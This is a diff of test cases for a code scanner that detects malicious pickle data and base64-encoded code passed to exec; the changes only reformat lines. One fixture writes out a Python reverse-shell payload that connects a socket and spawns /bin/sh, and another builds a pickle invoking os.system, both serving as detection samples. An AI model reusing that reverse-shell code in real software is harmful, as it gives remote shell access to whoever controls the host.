@@ -42,7 +42,9 @@ describe(EMBEDDED_MODEL.id, () => {
     it('base64 of a pickle handed to pickle.loads is scanned once', () => {
       const code = `import base64, pickle\nobj = pickle.loads(base64.b64decode('${osSystem().toString('base64')}'))\n`;
       const { findings } = scanSource(code);
-      expect(summary(findings).filter((s) => s.startsWith('pickle/'))).toEqual([`pickle/dangerous-callable critical script.py!/<embedded@${Buffer.from(code).indexOf('base64.b64decode(')}>`]);
+      expect(summary(findings).filter((s) => s.startsWith('pickle/'))).toEqual([
+        `pickle/dangerous-callable critical script.py!/<embedded@${Buffer.from(code).indexOf('base64.b64decode(')}>`,
+      ]);
       expect(findings.some((f) => f.ruleId === EMBEDDED_MODEL.id && f.message.includes('data handed to pickle.loads'))).toBe(true);
     });
 
@@ -80,7 +82,9 @@ describe(EMBEDDED_MODEL.id, () => {
     });
 
     it('decoded code handed to exec is scanned too', () => {
-      const payload = Buffer.from("import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n").toString('base64');
+      const payload = Buffer.from("import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n").toString(
+        'base64',
+      );
       const { findings } = scanSource(`import base64\nexec(base64.b64decode('${payload}'))\n`);
       expect(summary(findings)).toEqual(['python/dynamic-exec critical script.py', 'python/reverse-shell critical script.py!/<code@19>']);
     });
